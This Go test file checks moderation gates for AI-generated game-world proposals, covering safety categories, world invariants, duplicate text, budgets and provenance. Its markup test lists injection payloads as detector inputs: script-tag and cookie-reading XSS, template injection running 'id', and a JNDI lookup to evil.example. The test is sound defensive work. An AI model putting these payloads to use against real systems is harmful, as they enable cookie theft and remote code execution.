package gates

import (
	"context"
	"encoding/json"
	"fmt"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/worldgate/worldgate/events"
	"github.com/worldgate/worldgate/events/provenance"
	"github.com/worldgate/worldgate/events/route"
	"github.com/worldgate/worldgate/shared/natsx/natsauth"
)

func TestSafetyDecisionPerPolicyVersion(t *testing.T) {
	v := verdict{Flagged: true, Categories: []string{"violence_extreme", "pii"}, Scores: map[string]float64{"violence_extreme": 1, "pii": 1}, PolicyVersion: "p1"}
	for _, c := range []struct {
		name    string
		blocked map[string][]string
		want    []string
	}{
		{"no configuration blocks every flagged category", nil, []string{"pii", "violence_extreme"}},
		{"version listed", map[string][]string{"p1": {"pii"}}, []string{"pii"}},
		{"version allows everything", map[string][]string{"p1": {}}, nil},
		{"default for other versions", map[string][]string{"p0": {}, "*": {"violence_extreme"}}, []string{"violence_extreme"}},
	} {
		d := safetyDecision(v, SafetyConfig{Blocked: c.blocked})
		got, _ := d.Details["categories"].([]string)
		if strings.Join(got, ",") != strings.Join(c.want, ",") || (len(c.want) == 0) != (d.Outcome == Passed) {
			t.Errorf("%s: %+v", c.name, d)
		}
	}
	if d := safetyDecision(verdict{PolicyVersion: "p1"}, SafetyConfig{}); d.Outcome != Passed {
		t.Errorf("clean verdict: %+v", d)
	}
}

func TestContentText(t *testing.T) {
	q := &events.QuestSeedPayload{QuestID: "quest:x", LocationID: "loc:a", Title: "T", Hook: "H", Objectives: []string{"o1", "o2"}, Involves: []string{"npc:b"}}
	if got := q.Content(); got != "T\nH\no1\no2" {
		t.Fatalf("quest text %q (ids must not be moderated)", got)
	}
	if got := (&events.PlayerMovedPayload{PlayerID: "player:a"}).Content(); got != "" {
		t.Fatalf("a move has no text, got %q", got)
	}
}

func TestInvariantRules(t *testing.T) {
	f := facts{exists: map[string]bool{"loc:a": true, "loc:b": true, "player:p": true, "npc:n": true, "faction:f": true},
		exits: map[string]string{"north": "loc:b"}, playerAt: []string{"loc:a"}}
	for _, c := range []struct {
		kind     string
		payload  events.Payload
		want     []string
		waitable bool
	}{
		{events.KindAmbience, &events.AmbiencePayload{LocationID: "loc:a"}, nil, false},
		{events.KindAmbience, &events.AmbiencePayload{LocationID: "loc:z"}, []string{"location loc:z does not exist"}, false},
		{events.KindPlayerMoved, &events.PlayerMovedPayload{PlayerID: "player:p", FromLocationID: "loc:a", ToLocationID: "loc:b", Direction: "north"}, nil, false},
		{events.KindPlayerMoved, &events.PlayerMovedPayload{PlayerID: "player:p", FromLocationID: "loc:b", ToLocationID: "loc:a", Direction: "south"}, []string{"is at loc:a, not at loc:b", "no exit south"}, false},
		{events.KindExitAdded, &events.ExitAddedPayload{FromLocationID: "loc:a", ToLocationID: "loc:a", Direction: "up"}, []string{"back to itself"}, false},
		{events.KindExitAdded, &events.ExitAddedPayload{FromLocationID: "loc:a", ToLocationID: "loc:b", Direction: "north"}, []string{"already has an exit north"}, false},
		{events.KindExitAdded, &events.ExitAddedPayload{FromLocationID: "loc:a", ToLocationID: "loc:new", Direction: "east"}, []string{"location loc:new does not exist"}, true},
		{events.KindNPCCreated, &events.NPCCreatedPayload{NPCID: "npc:n", LocationID: "loc:a"}, []string{"NPC npc:n already exists"}, false},
		{events.KindNPCCreated, &events.NPCCreatedPayload{NPCID: "npc:m", LocationID: "loc:a", FactionID: "faction:g"}, []string{"faction faction:g does not exist"}, true},
		{events.KindExitRemoved, &events.ExitRemovedPayload{FromLocationID: "loc:a", Direction: "west"}, []string{"no exit west to remove"}, false},
		{events.KindNPCRemoved, &events.NPCRemovedPayload{NPCID: "npc:x"}, []string{"NPC npc:x does not exist"}, false},
		{events.KindLoreFactAdded, &events.LoreFactAddedPayload{LoreID: "lore:l", About: []string{"npc:n", "faction:q"}}, []string{"faction faction:q does not exist"}, true},
	} {
		vs := invariantRules(c.kind, c.payload, f)
		var text []string
		waitable := len(vs) > 0
		for _, v := range vs {
			text = append(text, v.sentence)
			waitable = waitable && v.waitable
		}
		joined := strings.Join(text, " ")
		if len(vs) != len(c.want) || waitable != c.waitable {
			t.Errorf("%s %+v: %q (waitable %v), want %v (waitable %v)", c.kind, c.payload, joined, waitable, c.want, c.waitable)
		}
		for _, w := range c.want {
			if !strings.Contains(joined, w) {
				t.Errorf("%s: %q does not say %q", c.kind, joined, w)
			}
		}
	}
}

func TestSimHashNearDuplicates(t *testing.T) {
	base := "Rain drums on the slate roofs of the square, and gulls argue over bread."
	for _, c := range []struct {
		other string
		near  bool
	}{
		{"RAIN drums on the slate roofs of the square; and gulls argue over bread!", true},
		{"Rain drums on the slate roofs of the square, and the gulls argue over bread.", true},
		{"A bell tolls twice from the tower as merchants pack their carts.", false},
		{"Snow settles on the empty market stalls while a cat watches.", false},
	} {
		d := Hamming(SimHash(base), SimHash(c.other))
		if (d <= DefaultConfig().Dedup.MaxDistance) != c.near {
			t.Errorf("distance to %q = %d", c.other, d)
		}
	}
	now := time.Now()
	entries := []fingerprint{{FP: "ff", ProposalID: "self", At: now}, {FP: "0", ProposalID: "old", At: now.Add(-2 * time.Hour)}, {FP: "1", ProposalID: "recent", At: now}}
	if e, d, ok := nearDuplicate(0, "self", entries, 1, now.Add(-time.Hour)); !ok || e.ProposalID != "recent" || d != 1 {
		t.Errorf("nearDuplicate = %+v %d %v (own and expired entries must be skipped)", e, d, ok)
	}
}

func TestBudgetArithmetic(t *testing.T) {
	for _, c := range []struct {
		u    usage
		cost int64
		l    limit
		ok   bool
	}{
		{usage{}, 100, limit{}, true},
		{usage{Count: 2}, 0, limit{Count: 3}, true},
		{usage{Count: 3}, 0, limit{Count: 3}, false},
		{usage{CostMicros: 900}, 100, limit{CostMicros: 1000}, true},
		{usage{CostMicros: 901}, 100, limit{CostMicros: 1000}, false},
	} {
		next, ok := admit(c.u, c.cost, c.l)
		if ok != c.ok || (ok && (next.Count != c.u.Count+1 || next.CostMicros != c.u.CostMicros+c.cost)) || (!ok && (next.Count != c.u.Count || next.CostMicros != c.u.CostMicros)) {
			t.Errorf("admit(%+v, %d, %+v) = %+v, %v", c.u, c.cost, c.l, next, ok)
		}
	}
	// An actor window keeps the latest maxAdmitted admission tokens, never sharing the slice it
	// was given.
	u := usage{}
	for i := range maxAdmitted + 5 {
		u = withAdmitted(u, fmt.Sprint(i))
	}
	older := u
	u = withAdmitted(older, "new")
	if len(u.Admitted) != maxAdmitted || u.Admitted[0] != "6" || u.Admitted[maxAdmitted-1] != "new" || older.Admitted[maxAdmitted-1] != fmt.Sprint(maxAdmitted+4) {
		t.Errorf("admission tokens %v … %v (%d); the older window's last %v", u.Admitted[0], u.Admitted[len(u.Admitted)-1], len(u.Admitted), older.Admitted[maxAdmitted-1])
	}
	start, after := windowOf(time.Date(2026, 1, 1, 10, 0, 45, 0, time.UTC), time.Minute)
	if !start.Equal(time.Date(2026, 1, 1, 10, 0, 0, 0, time.UTC)) || after != 15 {
		t.Errorf("windowOf = %s, %v", start, after)
	}
}

func TestReplayProblems(t *testing.T) {
	tm := TemplateMap{"ambience@1.0.0": provenance.Sum([]byte("t"))}
	good := func() *events.Proposal {
		res := json.RawMessage(`{"a":1}`)
		rh, _ := provenance.ResultHash(res)
		calls := []events.ToolCall{{Server: "world", Tool: "get-location", ArgsHash: rh, ResultHash: rh, Result: res}}
		ch, _ := provenance.ContextHash("ambience", tm["ambience@1.0.0"], provenance.ToolResults(calls), "m")
		return &events.Proposal{Kind: "ambience", Provenance: &events.Provenance{Provider: "p", Model: "m",
			PromptTemplate: &events.TemplateRef{ID: "ambience", Version: "1.0.0", SHA256: tm["ambience@1.0.0"]},
			ContextHash:    ch, ToolCalls: calls, Tokens: events.Tokens{Prompt: 1}}}
	}
	if got := replayProblems(good(), tm); len(got) != 0 {
		t.Fatalf("complete provenance: %v", got)
	}
	for name, c := range map[string]struct {
		edit func(*events.Provenance)
		want string
	}{
		"model":                          {func(p *events.Provenance) { p.Model = "" }, "model is empty"},
		"template sha":                   {func(p *events.Provenance) { p.PromptTemplate.SHA256 = strings.Repeat("0", 64) }, "has sha256"},
		"context":                        {func(p *events.Provenance) { p.ContextHash = strings.Repeat("0", 64) }, "does not recompute"},
		"no result":                      {func(p *events.Provenance) { p.ToolCalls[0].Result = nil }, "no recorded result"},
		"cache hit":                      {func(p *events.Provenance) { p.Tokens = events.Tokens{}; p.CacheHit = true }, ""},
		"no tokens":                      {func(p *events.Provenance) { p.Tokens = events.Tokens{} }, "tokens are not recorded"},
		"fallback before any model call": {func(p *events.Provenance) { p.Tokens = events.Tokens{}; p.Fallback = "mcp-world is unreachable" }, ""},
	} {
		p := good()
		c.edit(p.Provenance)
		got := strings.Join(replayProblems(p, tm), "; ")
		if (c.want == "") != (got == "") || !strings.Contains(got, c.want) {
			t.Errorf("%s: %q, want %q", name, got, c.want)
		}
	}
}

// A world-building proposal may wait for what its batch creates; the kinds that wait come from
// the contract (events.KindInfo), not from a second list in the invariant gate: every
// world-building kind that is not destructive, and no agent or destructive kind.
func TestWorldBuildingKindsComeFromTheContract(t *testing.T) {
	var waits []string
	for _, k := range events.Kinds() {
		if worldBuilding(k.Kind) {
			waits = append(waits, k.Kind)
		}
		if want := k.WorldBuilding && !k.Destructive; worldBuilding(k.Kind) != want {
			t.Errorf("kind %s waits for its batch: %t, want %t (world building %t, destructive %t)", k.Kind, worldBuilding(k.Kind), want, k.WorldBuilding, k.Destructive)
		}
	}
	want := []string{events.KindLocationCreated, events.KindExitAdded, events.KindNPCCreated, events.KindFactionCreated,
		events.KindPlayerCreated, events.KindItemCreated, events.KindLoreFactAdded}
	if !slices.Equal(slices.Sorted(slices.Values(waits)), slices.Sorted(slices.Values(want))) {
		t.Errorf("kinds that wait for their batch = %v, want %v", waits, want)
	}
	if worldBuilding("no_such_kind") || worldBuilding(events.KindPlayerMoved) || worldBuilding(events.KindExitRemoved) {
		t.Error("an unknown, agent or destructive kind waits for its batch")
	}
}

func TestNames(t *testing.T) {
	r := Builtin()
	got, err := r.Names([]string{"schema", " safety", "schema"})
	if err != nil || strings.Join(got, ",") != "schema,safety" {
		t.Fatalf("%v %v", got, err)
	}
	if got, _ := r.Names([]string{"all"}); strings.Join(got, ",") != strings.Join(r.Known(), ",") {
		t.Fatalf("all = %v", got)
	}
	if _, err := r.Names([]string{"vibes"}); err == nil || !strings.Contains(err.Error(), `"vibes"`) {
		t.Fatalf("unknown gate: %v", err)
	}
}

// Every gate is defined once, with a constructor whose gate carries its name, and the
// embedded routes name exactly the built-in gates.
func TestRegistryShape(t *testing.T) {
	r := Builtin()
	seen := map[string]bool{}
	for _, s := range r.Specs() {
		if seen[s.Name] {
			t.Errorf("gate %s defined twice", s.Name)
		}
		seen[s.Name] = true
		if s.New == nil || s.Summary == "" {
			t.Errorf("gate %s: constructor or summary missing", s.Name)
		}
		if err := s.validate(); err != nil {
			t.Errorf("gate %s: %v", s.Name, err)
		}
	}
	if err := route.Default().Validate(r.Known()); err != nil {
		t.Fatalf("embedded routes against the registry: %v", err)
	}
	// The services that need only gate names (the event-processor, emitters) read them from
	// events/route, which derives them from the routes file: the same gates as the registry's.
	if got, want := slices.Sorted(slices.Values(route.Known())), slices.Sorted(slices.Values(r.Known())); !slices.Equal(got, want) {
		t.Errorf("the embedded routes name %v, the registry defines %v: a built-in gate needs its place in events/route/routes.yaml", got, want)
	}
	if err := r.ValidateLayout(r.OneProcessPerGate()); err != nil {
		t.Fatal(err)
	}
	if err := r.ValidateLayout(r.OneProcess()); err != nil {
		t.Fatal(err)
	}
	if err := r.ValidateLayout(Layout{{Gates: []string{Schema}}, {Gates: []string{Schema, "vibes"}}}); err == nil ||
		!strings.Contains(err.Error(), "schema runs in two processes") || !strings.Contains(err.Error(), `unknown gate "vibes"`) ||
		!strings.Contains(err.Error(), "audit runs in no process") {
		t.Fatalf("bad layout: %v", err)
	}
}

// A gate defined on one registry is that registry's alone: every registry starts from the
// built-in gates, and nothing is global.
func TestDefineIsLocalToItsRegistry(t *testing.T) {
	mine, other := Builtin(), Builtin()
	ok := func(context.Context, Deps) (Gate, error) { return nil, nil }
	if err := mine.Define(Spec{Name: "curfew", Summary: "nobody enters the vault", New: ok}); err != nil {
		t.Fatal(err)
	}
	if !slices.Contains(mine.Known(), "curfew") || !slices.Contains(mine.OneProcess()[0].Gates, "curfew") {
		t.Errorf("the registry that defined curfew does not know it: %v", mine.Known())
	}
	if slices.Contains(other.Known(), "curfew") || slices.Contains(Builtin().Known(), "curfew") || slices.Contains(route.Known(), "curfew") {
		t.Errorf("curfew, defined on one registry, is known elsewhere: %v, %v", other.Known(), route.Known())
	}
	if u := mine.OneProcess()[0].User(); u != natsauth.Gates {
		t.Errorf("every gate of a registry in one process runs as %s, want %s", u, natsauth.Gates)
	}
}

func TestDefineRefusesBadSpecs(t *testing.T) {
	r := Builtin()
	ok := func(context.Context, Deps) (Gate, error) { return nil, nil }
	for _, tc := range []struct {
		spec Spec
		want string
	}{
		{Spec{Name: "Bad Name", New: ok}, "lower-case"},
		{Spec{Name: "all", New: ok}, "lower-case"},
		{Spec{Name: "nothing"}, "no constructor"},
		{Spec{Name: Schema, New: ok}, "already defined"},
		{Spec{Name: "x", New: ok, Consumers: []Consumer{{Durable: "gate-x-more"}}}, "needs a durable name, subjects and a handler"},
		{Spec{Name: "y", New: ok, Consumers: []Consumer{{Durable: DecisionsDurable, Subjects: []string{"a"}, Handler: approvalGate.Consumers[0].Handler}}}, "is gate approval's"},
	} {
		if err := r.Define(tc.spec); err == nil || !strings.Contains(err.Error(), tc.want) {
			t.Errorf("Define(%q) = %v, want an error naming %q", tc.spec.Name, err, tc.want)
		}
	}
	if slices.Contains(r.Known(), "nothing") || slices.Contains(r.Known(), "x") || slices.Contains(r.Known(), "y") {
		t.Fatal("a refused spec was registered")
	}
}

// A dry run (shadow runs, gates.DryRun) judges a proposal with the gates' Check: the schema
// gate's Check validates the proposal as it would arrive, JSON Schemas included. It checked only
// the rules beyond them, so a regenerated line the schema refuses passed a shadow run.
func TestSchemaGateCheckAppliesTheJSONSchemas(t *testing.T) {
	r := route.Default()
	g := &schema{routes: &r}
	for _, c := range []struct {
		name, payload string
		want          Outcome
	}{
		{"valid", `{"locationId":"loc:square","text":"Rain on the slate roofs.","mood":"calm"}`, Passed},
		{"mood outside its pattern", `{"locationId":"loc:square","text":"Rain on the slate roofs.","mood":"Calm!"}`, Rejected},
		{"text past 600 characters", `{"locationId":"loc:square","text":"` + strings.Repeat("rain ", 130) + `","mood":"calm"}`, Rejected},
	} {
		p, _ := benchProposal(t)
		p.Payload = json.RawMessage(c.payload)
		ctx := context.WithValue(t.Context(), subjectKey{}, events.EmitSubject(p.AgentRole))
		d, err := g.Check(ctx, p)
		if err != nil || d.Outcome != c.want || (c.want == Rejected && d.Code != events.CodeSchemaInvalid) {
			t.Errorf("%s: %v %s %q (%v), want %v", c.name, d.Outcome, d.Code, d.Reason, err, c.want)
		}
	}
}

// Decision cost of each gate's pure rules.

func benchProposal(b testing.TB) (*events.Proposal, []byte) {
	res := json.RawMessage(`{"locationId":"loc:square","name":"square","exits":["north","east"]}`)
	rh, _ := provenance.ResultHash(res)
	sha := provenance.Sum([]byte("t"))
	calls := []events.ToolCall{{Server: "world", Tool: "get-location", ArgsHash: rh, ResultHash: rh, Result: res}}
	ch, _ := provenance.ContextHash("ambience", sha, provenance.ToolResults(calls), "m")
	pending, _ := route.Default().For("ambience")
	p := &events.Proposal{ProposalID: "p-1", Kind: "ambience", SchemaVersion: "1", CorrelationID: "c", CausationID: "e", AgentRole: "ambience",
		Actor: events.Actor{Kind: "player", ID: "player:ada"}, Payload: json.RawMessage(`{"locationId":"loc:square","text":"Rain drums on the slate roofs of the square, and gulls argue over bread.","mood":"calm"}`),
		Provenance: &events.Provenance{Provider: "p", Model: "m", PromptTemplate: &events.TemplateRef{ID: "ambience", Version: "1.0.0", SHA256: sha},
			ContextHash: ch, ToolCalls: calls, Tokens: events.Tokens{Prompt: 1}, CostUSD: 0.0004},
		Route: events.Route{Pending: pending}, CreatedUTC: time.Now().UTC()}
	data, err := json.Marshal(p)
	if err != nil {
		b.Fatal(err)
	}
	return p, data
}

func BenchmarkDecisionSchema(b *testing.B) {
	p, data := benchProposal(b)
	r := route.Default()
	g := &schema{routes: &r}
	_, _ = g.CheckRaw(b.Context(), data, p) // compile the embedded schemas outside the timing
	b.ReportAllocs()
	for b.Loop() {
		if d, _ := g.CheckRaw(b.Context(), data, p); d.Outcome != Passed {
			b.Fatal(d.Reason)
		}
	}
}

func BenchmarkDecisionSafety(b *testing.B) {
	v := verdict{Categories: []string{"pii"}, PolicyVersion: "p1"}
	cfg := SafetyConfig{Blocked: map[string][]string{"p1": {"hate"}}}
	p, _ := benchProposal(b)
	b.ReportAllocs()
	for b.Loop() {
		pl, _ := events.DecodePayload(p.Kind, p.Payload)
		_ = pl.Content()
		if safetyDecision(v, cfg).Outcome != Passed {
			b.Fatal("rejected")
		}
	}
}

func BenchmarkDecisionInvariant(b *testing.B) {
	f := facts{exists: map[string]bool{"loc:a": true, "loc:b": true, "player:p": true}, exits: map[string]string{"north": "loc:b"}, playerAt: []string{"loc:a"}}
	pl := &events.PlayerMovedPayload{PlayerID: "player:p", FromLocationID: "loc:a", ToLocationID: "loc:b", Direction: "north"}
	b.ReportAllocs()
	for b.Loop() {
		_ = needsOf(pl)
		if len(invariantRules(events.KindPlayerMoved, pl, f)) != 0 {
			b.Fatal("violated")
		}
	}
}

func BenchmarkDecisionDedup(b *testing.B) {
	now := time.Now()
	entries := make([]fingerprint, 64)
	for i := range entries {
		entries[i] = fingerprint{FP: "123456789abcdef" + string(rune('0'+i%10)), ProposalID: "x", At: now}
	}
	text := "Rain drums on the slate roofs of the square, and gulls argue over bread."
	b.ReportAllocs()
	for b.Loop() {
		fp := SimHash(text)
		_, _, _ = nearDuplicate(fp, "p", entries, 6, now.Add(-time.Hour))
	}
}

func BenchmarkDecisionReplay(b *testing.B) {
	p, _ := benchProposal(b)
	tm := TemplateMap{"ambience@1.0.0": p.Provenance.PromptTemplate.SHA256}
	b.ReportAllocs()
	for b.Loop() {
		if len(replayProblems(p, tm)) != 0 {
			b.Fatal("incomplete")
		}
	}
}

func BenchmarkDecisionRate(b *testing.B) {
	l := limit{Count: 1 << 30, CostMicros: 1 << 40}
	u := usage{}
	b.ReportAllocs()
	for b.Loop() {
		_, _ = windowOf(time.Now(), time.Minute)
		u, _ = admit(u, 400, l)
	}
}

func BenchmarkDecisionAudit(b *testing.B) {
	p, _ := benchProposal(b)
	b.ReportAllocs()
	for b.Loop() {
		if _, err := json.Marshal(auditRecord(p, "d", time.Now())); err != nil {
			b.Fatal(err)
		}
	}
}

// Markup and template injection in content text are named; plain game prose, with its
// punctuation, is not.
func TestMarkupHits(t *testing.T) {
	for _, text := range []string{
		`<script>alert(1)</script>`, `Visit <a href="x">here</a>`, `<img src=x onerror=alert(1)>`,
		`click javascript:alert(document.cookie)`, `Hello {{7*7}}`, `${jndi:ldap://evil.example/a}`,
		`{% include 'x' %}`, `<%= system("id") %>`, `<!-- hidden -->`, `JaVaScRiPt:void(0)`,
	} {
		if len(markupHits(text)) == 0 {
			t.Errorf("%q: no markup found", text)
		}
	}
	for _, text := range []string{
		"The smith hammers; sparks fly — 3 < 4 of them land.", "Bram says: \"Halt! Who goes there?\"",
		"A sign reads: 50% off bread (today only).", "The {cracked} bell tolls at dusk.", "She whispers: ‘meet me at the well’.",
	} {
		if hits := markupHits(text); len(hits) > 0 {
			t.Errorf("%q flagged as %v", text, hits)
		}
	}
}

// BenchmarkSchemaHopDecode: what the schema hop decodes of a proposal. It decoded each twice
// (plainly, then strictly in the schema gate); a proposal that decodes strictly is now decoded
// once.
func BenchmarkSchemaHopDecode(b *testing.B) {
	_, data := benchProposal(b)
	g := &schema{}
	b.Run("plain-then-strict", func(b *testing.B) {
		b.ReportAllocs()
		for b.Loop() {
			if _, err := decodeProposal(Schema, data); err != nil {
				b.Fatal(err)
			}
			if _, err := (events.Decoder{}).Proposal(data); err != nil {
				b.Fatal(err)
			}
		}
	})
	b.Run("strict-once", func(b *testing.B) {
		b.ReportAllocs()
		for b.Loop() {
			if _, strict, err := decodeFor(g, data); err != nil || !strict {
				b.Fatal(err)
			}
		}
	})
}
